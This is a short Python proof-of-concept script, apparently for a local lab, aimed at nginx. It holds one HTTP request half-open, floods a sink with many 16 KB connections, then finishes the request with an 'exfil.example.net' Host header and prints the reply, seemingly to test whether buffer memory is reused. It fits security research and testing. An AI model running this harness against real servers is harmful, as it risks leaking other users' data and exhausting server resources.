#!/usr/bin/python3
"""reclaim_live.py N - run in the agent namespace of lab.sh: connection T to nginx
10.96.0.80:80 sends "GET /t HTTP/1.1\r\nUser-Agent: a\r\n", then N connections to the
sink on 10.96.0.80:9000 (sink.py) send 16,000 bytes each and stay open, then T sends
"Host: exfil.example.net\r\n\r\n" and reads nginx's answer. Prints it."""
import socket, sys, time, resource
resource.setrlimit(resource.RLIMIT_NOFILE, (min(65536, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
n = int(sys.argv[1])
t = socket.create_connection(("10.96.0.80", 80), timeout=10)
t.sendall(b"GET /t HTTP/1.1\r\nUser-Agent: a\r\n")
time.sleep(0.2)
held = []
for i in range(n):
    s = socket.create_connection(("10.96.0.80", 9000), timeout=10)
    s.sendall(b"Z" * 16000)
    held.append(s)
time.sleep(0.5)
t.sendall(b"Host: exfil.example.net\r\n\r\n")
print(t.recv(4096))
t.close()
for s in held:
    s.close()
